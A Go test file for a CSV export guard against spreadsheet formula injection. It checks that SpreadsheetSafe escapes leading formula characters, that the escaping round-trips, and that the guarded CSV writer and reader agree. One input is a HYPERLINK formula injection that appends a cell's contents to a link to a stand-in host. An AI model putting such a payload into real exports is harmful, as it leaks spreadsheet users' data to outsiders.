package format

import (
	"bytes"
	"strings"
	"testing"
)

func TestSpreadsheetSafe(t *testing.T) {
	cases := []struct{ in, want string }{
		// Formulas and what spreadsheets take for one.
		{`=HYPERLINK("http://x.example/?"&A1,"click")`, `'=HYPERLINK("http://x.example/?"&A1,"click")`},
		{"@SUM(1+1)", "'@SUM(1+1)"},
		{"+1+1", "'+1+1"},
		{"-1+1", "'-1+1"},
		{"-2-3", "'-2-3"},
		{"=1", "'=1"},
		{"\t=1", "'\t=1"},
		{"\r=1", "'\r=1"},
		{"-", "'-"},
		{"+", "'+"},
		{"--x", "'--x"},
		{"-.5", "'-.5"},
		{"-12.", "'-12."},
		{"-1e5", "'-1e5"},
		{"+49 30 1234", "'+49 30 1234"},
		{"=ÄÖÜ", "'=ÄÖÜ"},
		// Quotes before a formula character get one more, so the value
		// reads back as it was.
		{"'=1", "''=1"},
		{"''@x", "'''@x"},
		{"'-12.50", "''-12.50"},
		// Plain numbers stay numbers.
		{"-12.50", "-12.50"},
		{"+3", "+3"},
		{"-3", "-3"},
		{"-0", "-0"},
		{"-9223372036854775808", "-9223372036854775808"},
		{"12.50", "12.50"},
		// Everything else is left alone.
		{"", ""},
		{"2026-03-16", "2026-03-16"},
		{"2026-03-16T10:00:00Z", "2026-03-16T10:00:00Z"},
		{"Trail Tee", "Trail Tee"},
		{" =1", " =1"},
		{"a=1", "a=1"},
		{"'", "'"},
		{"'abc", "'abc"},
		{"Zürich", "Zürich"},
		{"＝1", "＝1"},
		{"\n=1", "\n=1"},
		{"\xff=1", "\xff=1"},
	}
	for _, c := range cases {
		if got := SpreadsheetSafe(c.in); got != c.want {
			t.Errorf("SpreadsheetSafe(%q) = %q, want %q", c.in, got, c.want)
		}
		if got := SpreadsheetValue(SpreadsheetSafe(c.in)); got != c.in {
			t.Errorf("SpreadsheetValue(SpreadsheetSafe(%q)) = %q, want it back", c.in, got)
		}
	}
}

func TestSpreadsheetValue(t *testing.T) {
	cases := []struct{ in, want string }{
		{"'=1", "=1"},
		{"''=1", "'=1"},
		{"'-12.50", "-12.50"}, // typed in a spreadsheet to keep it text
		{"'\t", "\t"},
		{"'abc", "'abc"},
		{"'", "'"},
		{"''", "''"},
		{"=1", "=1"},
		{"-12.50", "-12.50"},
		{"", ""},
	}
	for _, c := range cases {
		if got := SpreadsheetValue(c.in); got != c.want {
			t.Errorf("SpreadsheetValue(%q) = %q, want %q", c.in, got, c.want)
		}
	}
}

func TestCSVWriter(t *testing.T) {
	rec := []string{"=1", "-12.50", "a,b", "@x"}
	for _, c := range []struct {
		guard bool
		want  string
	}{
		{true, "'=h,n\n'=1,-12.50,\"a,b\",'@x\n"},
		{false, "=h,n\n=1,-12.50,\"a,b\",@x\n"},
	} {
		var b bytes.Buffer
		w := NewCSVWriter(&b, c.guard)
		w.Write([]string{"=h", "n"})
		w.Write(rec)
		w.Flush()
		if err := w.Error(); err != nil {
			t.Fatal(err)
		}
		if b.String() != c.want {
			t.Errorf("guard %v: wrote %q, want %q", c.guard, b.String(), c.want)
		}
		if rec[0] != "=1" {
			t.Fatalf("Write changed the caller's record: %q", rec)
		}
		// What the guarded writer wrote, the upload reader reads back.
		rr, err := NewCSVReader(strings.NewReader(b.String()))
		if err != nil {
			t.Fatal(err)
		}
		row, err := rr.Next()
		if err != nil || strings.Join(row.Fields, "|") != strings.Join(rec, "|") {
			t.Errorf("guard %v: read back %q (%v), want %q", c.guard, row.Fields, err, rec)
		}
	}
}

// FuzzSpreadsheetSafe checks the two promises of the rule on any cell: a
// guarded cell never starts with a formula character unless it is a plain
// number, and SpreadsheetValue gives the cell back.
func FuzzSpreadsheetSafe(f *testing.F) {
	for _, s := range []string{"=1", "-12.50", "'=x", "''", "@", "\t", "abc", ""} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, cell string) {
		safe := SpreadsheetSafe(cell)
		if startsFormula(safe) && !isPlainNumber(safe) {
			t.Fatalf("SpreadsheetSafe(%q) = %q starts a formula", cell, safe)
		}
		if back := SpreadsheetValue(safe); back != cell {
			t.Fatalf("SpreadsheetValue(SpreadsheetSafe(%q)) = %q", cell, back)
		}
	})
}
